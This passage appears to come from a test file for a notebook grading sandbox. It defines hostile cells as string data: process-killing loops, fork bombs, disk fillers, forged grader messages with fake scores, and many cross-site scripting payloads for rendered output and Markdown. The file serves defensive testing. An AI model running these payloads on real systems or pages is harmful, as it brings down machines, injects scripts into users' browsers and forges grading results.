        "for pid in [@PID@, @CANARY_PID@, os.getppid(), *range(1, 3000)]:\n"
        "    if pid not in (0, os.getpid()):\n"
        "        with contextlib.suppress(OSError):\n"
        "            os.kill(pid, number)\n"
        "for group in (@PID@, os.getppid(), 1):\n"
        "    with contextlib.suppress(OSError):\n"
        "        if group > 0 and group != os.getpgid(0):\n"
        "            os.killpg(group, number)\n"
        "with contextlib.suppress(OSError):\n"
        "    os.kill(-1, number)",
    )
cell(
    WRITING,
    "signals that the kernel sends when a pipe is ready",
    "import fcntl\n"
    "for number in (signal.SIGKILL, signal.SIGINT):\n"
    "    for pid in set(range(1, 40)) - {os.getpid()}:\n"
    "        end, other = os.pipe()\n"
    "        with contextlib.suppress(OSError):\n"
    "            fcntl.fcntl(end, 8, pid)\n"
    "            fcntl.fcntl(end, 10, number)\n"
    "            fcntl.fcntl(end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)\n"
    "            os.write(other, b'x')\n"
    "        os.close(end)\n"
    "        os.close(other)",
)
cell(
    WRITING,
    "limits and priorities of other processes",
    "import resource\n"
    "for pid in [@PID@, @CANARY_PID@, os.getppid(), 1]:\n"
    "    if pid not in (0, os.getpid()):\n"
    "        if works(resource.prlimit, pid, resource.RLIMIT_NOFILE, (3, 3)):\n"
    "            won('limits of', pid)\n"
    "        with contextlib.suppress(OSError):\n"
    "            os.setpriority(os.PRIO_PROCESS, pid, 19)\n"
    "for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):\n"
    "    soft, hard = resource.getrlimit(kind)\n"
    "    if hard != -1 and works(resource.setrlimit, kind, (hard + 1, hard + 1)):\n"
    "        won('a higher limit', kind)",
)

# Network -----------------------------------------------------------------------------------------

cell(
    NETWORK,
    "a server on the machine's loopback",
    "for address in ('127.0.0.1', 'localhost', '::1', '0.0.0.0'):\n"
    "    if works(lambda: socket.create_connection((address, @PORT@), 1)):\n"
    "        won(address)",
)
call(
    NETWORK,
    "a server on the machine's loopback, by a call",
    "if works(lambda: socket.create_connection(('127.0.0.1', @PORT@), 1)):\n"
    "    return right(x, y, m, c, lr)\nreturn 0, 0",
    diagnosis="value",
)
cell(
    NETWORK,
    "names and addresses of the world",
    "for address in (('192.0.2.1', 53), ('198.51.100.1', 80)):\n"
    "    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "    if works(one.sendto, b'x', address):\n"
    "        won('sent to', address)\n"
    "if works(socket.getaddrinfo, 'example.org', 80):\n    won('a name')\n"
    "import socket as s\n"
    "if [name for _, name in s.if_nameindex() if name != 'lo']:\n    won(s.if_nameindex())",
)
cell(
    NETWORK,
    "raw, packet, netlink and vsock sockets",
    "for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):\n"
    "    if works(socket.socket, family, kind, 1):\n"
    "        won(family)\n"
    "one = works(socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)\n"
    "if one:\n"
    "    vsock = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n"
    "    vsock.settimeout(0.2)\n"
    "    if works(vsock.connect, (2, @PORT@)):\n"
    "        won('vsock')",
)

# Left-behind processes ---------------------------------------------------------------------------

SLEEP = "[sys.executable, '-c', 'import time; time.sleep(60)', LEFT]"
cell(LEAVING, "a command", f"subprocess.Popen({SLEEP})")
cell(LEAVING, "a command in a session", f"subprocess.Popen({SLEEP}, start_new_session=True)")
cell(
    LEAVING,
    "a process forked twice",
    "if os.fork() == 0:\n"
    "    os.setsid()\n"
    "    named(LEFT)\n"
    "    if os.fork():\n"
    "        os._exit(0)\n"
    "    for number in set(range(1, 65)) - {9, 19, 32, 33}:\n"
    "        with contextlib.suppress(OSError, ValueError):\n"
    "            signal.signal(number, signal.SIG_IGN)\n"
    "    for descriptor in range(64):\n"
    "        with contextlib.suppress(OSError):\n"
    "            os.close(descriptor)\n"
    "    time.sleep(60)\n"
    "    os._exit(0)",
)
cell(
    LEAVING,
    "a process in a group of its own that outputs later",
    "if os.fork() == 0:\n"
    "    os.setpgid(0, 0)\n"
    "    named(LEFT)\n"
    "    while True:\n"
    "        time.sleep(0.2)\n"
    "        everywhere(framed(b'{\"outputs\": []}'))",
    loses=LATER,
    ends=False,
)
cell(
    LEAVING,
    "a thread that never ends",
    "def work():\n"
    "    named(LEFT)\n"
    "    while True:\n"
    "        time.sleep(0.05)\n"
    "threading.Thread(target=work, daemon=False).start()",
)
call(
    LEAVING,
    "a process forked by a call",
    "if os.fork() == 0:\n"
    "    os.setsid()\n"
    "    named(LEFT)\n"
    "    time.sleep(60)\n"
    "    os._exit(0)\n"
    "return 0, 0",
)
call(
    LEAVING,
    "a call that forks and answers twice",
    "os.fork()\nreturn 0, 0",
)

# Denial of service -------------------------------------------------------------------------------

cell(DENIAL, "a loop", "while True:\n    pass", ends=False, diagnosis="missing")
cell(
    DENIAL,
    "a loop that catches interrupts",
    "for number in (1, 2, 10, 12, 14, 15, 24, 26):\n"
    "    signal.signal(number, signal.SIG_IGN)\n"
    "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\n"
    "while True:\n"
    "    try:\n"
    "        time.sleep(3600)\n"
    "    except BaseException:\n"
    "        pass",
    ends=False,
    diagnosis="missing",
)
call(DENIAL, "a loop in a call", "while True:\n    pass", diagnosis="endless")
call(
    DENIAL,
    "a sleep in a call that catches interrupts",
    "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\n"
    "while True:\n"
    "    try:\n"
    "        time.sleep(3600)\n"
    "    except BaseException:\n"
    "        pass",
    diagnosis="endless",
)
call(DENIAL, "a computation in C that no signal ends", "return 7 ** (10 ** 9)", diagnosis="endless")
call(
    DENIAL,
    "a deadlock in a call",
    "lock = threading.Lock()\nlock.acquire()\nlock.acquire()",
    diagnosis="endless",
)
cell(
    DENIAL,
    "memory without end",
    "kept = []\nwhile True:\n    kept.append(np.ones(2**24))",
    ends=False,
    diagnosis="missing",
)
call(DENIAL, "memory in a call", "return np.ones(2**40), 0", diagnosis="raised")
cell(
    DENIAL,
    "four thousand processes",
    "named(LEFT)\n"
    "with contextlib.suppress(OSError):\n"
    "    for _ in range(12):\n"
    "        os.fork()\n"
    "time.sleep(30)",
    ends=False,
    loses=LATER,
)
cell(
    DENIAL,
    "five thousand threads",
    "with contextlib.suppress(RuntimeError, MemoryError):\n"
    "    for _ in range(5000):\n"
    "        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()",
    loses=LATER,
    ends=False,
)
cell(DENIAL, "output without end", "while True:\n    print('x' * 1000)", ends=False)
cell(DENIAL, "output past Python", "while True:\n    os.write(1, b'x' * 65536)", ends=False)
cell(DENIAL, "one huge line", "print('x' * 10**8)", ends=False)
cell(
    DENIAL,
    "thousands of displays",
    "from IPython.display import display\nfor k in range(3000):\n    display(k)",
    ends=False,
)
cell(
    DENIAL,
    "a picture of a billion points",
    "import matplotlib.pyplot as plt\nplt.figure(figsize=(600, 600), dpi=1000)\nplt.plot([1])\nplt.show()",
    ends=False,
)
cell(
    DENIAL,
    "a recursion past the limit",
    "sys.setrecursionlimit(10**9)\ndef deep():\n    return deep()\ndeep()",
    ends=False,
    diagnosis="missing",
)
call(
    DENIAL,
    "a recursion in a call",
    "def deep():\n    return deep()\nreturn deep()",
    diagnosis="raised",
)
cell(DENIAL, "a segmentation fault", "ctypes.string_at(0)", ends=False, diagnosis="missing")
call(DENIAL, "a segmentation fault in a call", "ctypes.string_at(0)", diagnosis="died")
cell(
    DENIAL,
    "another program in its place",
    "os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', LEFT])",
    ends=False,
    diagnosis="missing",
)
call(
    DENIAL,
    "another program in its place, by a call",
    "os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', LEFT])",
)
cell(DENIAL, "a question to the keyboard", "try:\n    input('?')\nexcept Exception:\n    pass")
cell(DENIAL, "stopping itself", "os.kill(os.getpid(), signal.SIGSTOP)", ends=False)
call(DENIAL, "stopping itself in a call", "os.kill(os.getpid(), signal.SIGSTOP)\nreturn 0, 0")
cell(
    DENIAL,
    "all descriptors closed",
    "for descriptor in range(256):\n"
    "    with contextlib.suppress(OSError):\n"
    "        os.close(descriptor)",
    ends=False,
    loses=LATER,
)
cell(
    DENIAL,
    "all descriptors made non-blocking and mixed",
    "for descriptor in range(3, 64):\n"
    "    with contextlib.suppress(OSError):\n"
    "        os.set_blocking(descriptor, False)\n"
    "        os.dup2(descriptor, 3 + (descriptor * 7) % 60)",
    ends=False,
    loses=LATER,
)
cell(
    DENIAL,
    "the disk filled",
    "with contextlib.suppress(OSError):\n"
    "    for k in range(400):\n"
    "        for folder in ('.', '/tmp', '/dev/shm'):\n"
    "            with contextlib.suppress(OSError):\n"
    "                open(f'{folder}/{LEFT}-{k}', 'wb').write(b'x' * 2**24)",
    ends=False,
)
cell(
    DENIAL,
    "a file of 100 GB",
    "for folder in ('.', '/tmp', '/dev/shm'):\n"
    "    with contextlib.suppress(OSError):\n"
    "        os.truncate(os.open(f'{folder}/{LEFT}-huge', os.O_CREAT | os.O_RDWR), 100 * 2**30)",
)
cell(
    DENIAL,
    "many files and deep folders",
    "with contextlib.suppress(OSError):\n"
    "    for k in range(20_000):\n"
    "        open(f'{LEFT}-{k}', 'w').close()\n"
    "with contextlib.suppress(OSError):\n"
    "    for k in range(3000):\n"
    "        os.mkdir('d' * 200)\n"
    "        os.chdir('d' * 200)",
    ends=False,
)
cell(DENIAL, "Python ended", "os._exit(0)", ends=False, diagnosis="missing")
cell(DENIAL, "quit", "quit()", ends=False, diagnosis="missing")
call(DENIAL, "quit in a call", "quit()", diagnosis="raised")
call(DENIAL, "killing itself in a call", "os.kill(os.getpid(), 9)\nos.abort()", diagnosis="raised")
cell(
    DENIAL,
    "a text that never ends",
    "class Endless:\n"
    "    def __repr__(self):\n"
    "        while True:\n"
    "            pass\n\n"
    "print(Endless())",
    ends=False,
    diagnosis="missing",
)
cell(
    DENIAL,
    "an error whose text never ends",
    "class Endless(Exception):\n"
    "    def __str__(self):\n"
    "        while True:\n"
    "            pass\n\n"
    "raise Endless",
    ends=False,
    diagnosis="missing",
)
call(
    DENIAL,
    "an error in a call whose text never ends",
    "raise Endless",
    before="class Endless(Exception):\n"
    "    def __str__(self):\n"
    "        while True:\n"
    "            pass",
    diagnosis="endless",
)
cell(
    DENIAL,
    "nothing printed any more",
    "sys.stdout.close()\nsys.stdout = sys.stderr = sys.__stdout__ = None",
    ends=False,
    loses=LATER,
)

# Hostile values: what a call returns or raises ---------------------------------------------------

RETURNED = {
    "lone surrogates": ("return '\\ud800', '\\udfff\\x00'", None),
    "NaN with a payload": (
        "bits = np.array([0x7FF8DEADBEEF0001] * 2, dtype='u8').view('f8')\nreturn tuple(bits)",
        "not-finite",
    ),
    "minus zero": ("return -0.0, np.float64(-0.0)", None),
    "a gigantic array of strides 0": (
        "return np.broadcast_to(np.float64(1), (10**6, 10**6)), 0",
        None,
    ),
    "an array of 64 axes": ("return np.zeros((1,) * 32), np.zeros((0,) * 32)", None),
    "an object in an array without axes": ("return np.array(object()), np.array([[]])", None),
    "records": ("return np.zeros(2, dtype='f8,f8'), np.zeros((), dtype=[('a', 'O')])", None),
    "an array of text": ("return np.array(['1', '2']), np.array([b'1'])", None),
    "strides backwards": ("return np.arange(8.0)[::-4], np.arange(2.0)[::-1]", None),
    "the other byte order": ("return np.zeros(2, dtype='>f8'), np.float64(0)", None),
    "huge integers": ("return 10**5000, -(10**400)", None),
    "integers at the edge": ("return 2**63 - 1, -(2**63)", None),
    "a dict with odd keys": ("return {None: 1, (1,): 2, b'': 3}, {1.5: {}}", None),
    "a generator": ("return (k for k in [m, c])", None),
    "a list that holds itself": ("a = []\na.append(a)\nreturn a, a", None),
    "a tuple ten thousand deep": (
        "a = ()\nfor _ in range(10_000):\n    a = (a,)\nreturn a, a",
        None,
    ),
    "long floats": ("return np.longdouble('1e4000'), np.longdouble('nan')", None),
    "complex numbers and dates": ("return 1j, np.datetime64('NaT')", None),
    "masked arrays and matrices": ("return np.ma.masked, np.matrix([[1.0]])", None),
    "a million entries": ("return [0.0] * 10**6, {str(k): k for k in range(10**6)}", None),
    "a list of a list of a list": ("return [[[0.0] * 300] * 300] * 300, 0", None),
    "a type as the value": ("return int, type", None),
    "memory of the arguments": ("return x, y", None),
    "a name of a megabyte": (
        "return type('\\u202e<script>' * 10**5, (), {})(), type('\\x1b[2J', (), {})()",
        None,
    ),
}
for title, (body, diagnosis) in RETURNED.items():
    call(VALUES, title, body, diagnosis=diagnosis)
call(
    VALUES,
    "an error whose text lies",
    "raise Lying()",
    before="class Lying(Exception):\n"
    "    __str__ = lambda self: 3\n"
    "    __class__ = property(lambda self: 1 / 0)\n"
    "    __traceback__ = None",
)
call(
    VALUES,
    "an error of a hostile name",
    "raise type('<script>alert(1)</script>', (BaseException,), {})('\\ud800 <img src=x onerror=alert(1)>')",
    diagnosis="raised",
)
call(VALUES, "an interrupt from the keyboard", "raise KeyboardInterrupt")
call(
    VALUES,
    "an argument made another thing",
    "x.__class__ = type('A', (np.ndarray,), {}) if hasattr(x, 'resize') else list\n"
    "x.resize(10**4, refcheck=False)\nreturn 0, 0",
)

# Hostile messages: written straight into the channel ---------------------------------------------


def framed(body: str) -> str:
    """Return the code of a message as the runner's wire has it, twenty times."""
    return f"framed(*[{body.encode()!r}] * 20)"


def message(name, data):
    """Add bytes that the call writes into every channel it has; a text is the code of them."""
    code = data if isinstance(data, str) else repr(data)
    call(MESSAGES, name, f"everywhere({code})\nos._exit(0)")


OBSERVATIONS: dict[str, Any] = {}


def observation(name, value):
    """Add a forged observation."""
    OBSERVATIONS[name] = value
    message(name, framed(json.dumps(value)))


def returned(value):
    """Return the observation "the call returned this"."""
    return {"returned": value}


NESTED = "b'[' * 100_000 + b']' * 100_000"
message("a hundred thousand brackets", f"framed(*[{NESTED}] * 20)")
message(
    "a value nine hundred deep",
    "framed(*[b'{\"returned\": ' + b'{\"list\": [' * 900 + b']}' * 900 + b'}'] * 20)",
)
message(
    "a warning nine hundred deep",
    "framed(*[b'{\"returned\": 1, \"warned\": [' + b'[' * 900 + b']' * 900 + b']}'] * 20)",
)
message("sixteen megabytes", "framed(b'{\"returned\": \"' + b'x' * (2**24 - 100) + b'\"}')")
message(
    "seven megabytes of accents",  # thrice as many when they are packed anew
    "framed(b'{\"returned\": \"' + b'\\xc3\\xa9' * (7 * 2**19) + b'\"}')",
)
message("a length of four gigabytes", b"\xff\xff\xff\xff" + b"x" * 64)
message("half a message", b"\x00\x00\x01\x00{")
message("no JSON", framed("not json"))
message("no UTF-8", b"\x00\x00\x00\x04\xff\xfe\xfd\xfc" * 20)
observation("nothing but lists", [])
observation("nothing but numbers", 3)
observation("NaN and Infinity", returned({"tuple": [math.nan, -math.inf]}))
message("an integer of five thousand digits", framed('{"returned": %s}' % ("9" * 5000)))
observation("a huge integer", returned(10**400))
observation("two huge integers", returned({"tuple": [10**400, -(10**400)]}))
observation("a huge integer in a list", returned({"list": [1, 10**400]}))
observation(
    "huge integers in an array", returned({"array": [10**400] * 2, "dtype": "f8", "shape": [2]})
)
observation("an integer that no array holds", returned({"tuple": [2**64, 2.0]}))
observation("a text of a megabyte", returned("x" * 10**6))
observation("a text of odd letters", returned("\ud800\x00\u202e"))
observation("nothing returned", returned(None))
observation("true and false", returned({"tuple": [True, False]}))
observation("an empty list", returned({"list": []}))
observation("bits for numbers", returned({"array": [1, 0], "dtype": "bool", "shape": [2]}))
observation("no axes at all", returned({"array": [1], "dtype": "float64", "shape": []}))
observation("a dict for numbers", returned({"dict": [["m", 1], ["m", 2], ["c", 10**400]]}))
observation(
    "batches of anything",
    returned({"list": [{"array": [2**62, -(2**62)], "dtype": "int64", "shape": [2]}]}),
)
observation("batches of no integers", returned({"list": [{"tuple": [{"list": []}]}, 3, None]}))
observation("objects in an array", returned({"array": [[1], {}], "dtype": "O", "shape": [2]}))
observation(
    "records in an array",
    returned({"array": [1.0, 2.0], "dtype": "float64,float64", "shape": [2]}),
)
observation(
    "a shape below zero", returned({"array": [1, 2], "dtype": "float64", "shape": [-1, -1]})
)
observation(
    "a shape past all numbers", returned({"array": [], "dtype": "f8", "shape": [2**62, 4, 0]})
)
observation("a shape of text", returned({"array": [1], "dtype": "float64", "shape": ["1", None]}))
observation(
    "a dtype of a terabyte", returned({"array": [1], "dtype": "(1000000,1000000)f8", "shape": [1]})
)
observation("a scalar past its type", returned({"scalar": 10**30, "dtype": "int8"}))
observation("a formula", returned({"formula": ["t", "__import__('os').system('kill 1')"]}))
observation("a seed", returned({"seed": 1, "times": 10**12}))
observation("opaque markup", returned({"opaque": "<script>alert(1)</script>" * 4}))
observation("a dict of lists", returned({"dict": [[["a"], 1], [{}, 2]]}))
observation(
    "unknown keys", {"score": 3, "right": True, "state": "right", "points": 100, "parts": []}
)
observation(
    "names that are lists", {"returned": 1, "changed": [["x"], {"y": 1}, None], "shares": "yes"}
)
observation(
    "flags of every kind", {"returned": 1, "timeout": [], "died": {}, "missing": "x", "varies": 1}
)
observation(
    "an error of odd parts",
    {
        "raised": {
            "type": ["a"],
            "message": {"x": []},
            "text": "def gd_step",
            "line": 10**400,
            "function": "right",
        }
    },
)
observation("an error without parts", {"raised": {}})
observation("an error that is a list", {"raised": [1, 2]})

# Scripts in pages --------------------------------------------------------------------------------

RUN = "pwn(NAME)"  # the browser test gives each page such a function
SHOWN = {
    "HTML": "display(HTML('<script>RUN</script><img src=x onerror=\"RUN\">'))",
    "SVG": 'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script></svg>\'))',
    "JavaScript": "display(Javascript('RUN'))",
    "Markdown": "display(Markdown('<img src=x onerror=\"RUN\"> [x](javascript:RUN)'))",
    "LaTeX": "display(Latex(r'$\\href{javascript:RUN}{x}$ \\( \\unicode{<img src=x onerror=RUN>} \\)'))",
    "a frame": "display(IFrame('http://192.0.2.1/NAME', 10, 10))",
    "every MIME type": (
        "display({kind: '<script>RUN</script>' for kind in ('text/html', 'image/svg+xml',\n"
        "    'application/javascript', 'application/json', 'text/markdown', 'text/latex', 'application/pdf',\n"
        "    'application/vnd.jupyter.widget-view+json', 'image/gif', 'text/plain')}, raw=True)"
    ),
    "a picture that is none": "display({'image/png': '\"><script>RUN</script><img src=\"'}, raw=True)",
    "metadata of a picture": (
        "display({'image/png': 'iVBORw0KGgo='}, metadata={'image/png': {'width': '1\" onload=\"RUN'},\n"
        "    'alt': '\"><script>RUN</script>'}, raw=True)"
    ),
    "an error's name": "raise type('</div><script>RUN</script>', (Exception,), {})('<script>RUN</script>')",
    "an error's own traceback": (
        "class Own(Exception):\n"
        "    def _render_traceback_(self):\n"
        "        return ['<script>RUN</script>', '\\x1b]8;;javascript:RUN\\x07x\\x1b]8;;\\x07', '\\x1b[31m<img src=x onerror=\"RUN\">']\n"
        "raise Own"
    ),
    "printed markup": "print('</pre><script>RUN</script><img src=x onerror=\"RUN\">\\x1b[31m<b onclick=RUN>')",
    "a forged output": (
        "from types import MethodType\n"
        "html = {'text/html': '<script>RUN</script>', 'text/plain': 'x'}\n"
        "forged = [{'output_type': 'display_data', 'data': html, 'metadata': {}}]\n"
        "type(get_ipython()).shown = property(lambda self: forged, lambda self, value: None)\n"
        "get_ipython().run = lambda source: forged"
    ),
    "a page that covers all": "print('\\n' * 500 + 'RIGHT: gd_step (3 of 3 points)')\nprint('█' * 10**5)",
}
IMPORTS = "from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display\n"
for number, (title, text) in enumerate(SHOWN.items()):
    lost = LATER if title == "a forged output" else CALL_IT
    body = text.replace("RUN", RUN).replace("NAME", str(number))
    cell(SCRIPTS, title, f"{IMPORTS}{WRONG}\n{body}", ends=False, loses=lost)

MARKDOWN = {
    "raw HTML": '<script>RUN</script>\n\n<img src=x onerror="RUN">\n\n<svg onload="RUN"></svg>',
    "HTML in a line": "text <b onmouseover=\"RUN\"><iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "a link": "[RUN-LINK](javascript:RUN) <javascript:RUN> ![x](javascript:RUN)",
    "a link in disguise": "[RUN-LINK](JaVa&#83;cript:RUN) [RUN-LINK]( &#x6A;avascript&colon;RUN)",
    "a link by reference": "[RUN-LINK][1]\n\n[1]: <javascript:RUN> 'x'",
    "a link of data": "[RUN-LINK](data:text/html,<script>RUN</script>) [RUN-LINK](vbscript:RUN)",
    "a picture of another machine": "![x](http://192.0.2.1/NAME)",
    "LaTeX": r"$\href{javascript:RUN}{RUN-LINK}$ $$\unicode{<img src=x onerror=RUN>}$$ $\style{background:url(http://192.0.2.1/NAME)}{x}$",
    "LaTeX with HTML": r"$<img src=x onerror='RUN'>$ $$</script><script>RUN</script>$$ \begin{align}<script>RUN</script>\end{align}",
    "a broken tag": '<scr<script>ipt>RUN</scr</script>ipt> <img src=x onerror=RUN//\n\n<a href="java\nscript:RUN">RUN-LINK</a>',
    "a style": "<style>@import 'http://192.0.2.1/NAME'; body {background: url(http://192.0.2.1/NAME)}</style>",
    "a form and a redirection": "<meta http-equiv=refresh content='0;url=http://192.0.2.1/NAME'><base href='http://192.0.2.1/'><form action=x>",
    "a fence": '```<script>RUN</script>\n<script>RUN</script>\n```\n~~~html"><img src=x onerror=RUN>\n~~~',
    "a table": '| a |\n|---|\n| <img src=x onerror="RUN"> |',
    "a heading": '# <img src=x onerror="RUN"> heading "><script>RUN</script>',
}


def own_text() -> list[NotebookNode]:
    """Return the Markdown cells that try to run in a page; their numbers begin at 100."""
    texts = [text.replace("RUN-LINK", "click me") for text in MARKDOWN.values()]
    numbered = enumerate((text.replace("RUN", RUN) for text in texts), start=100)
    return [v4.new_markdown_cell(text.replace("NAME", str(k))) for k, text in numbered]
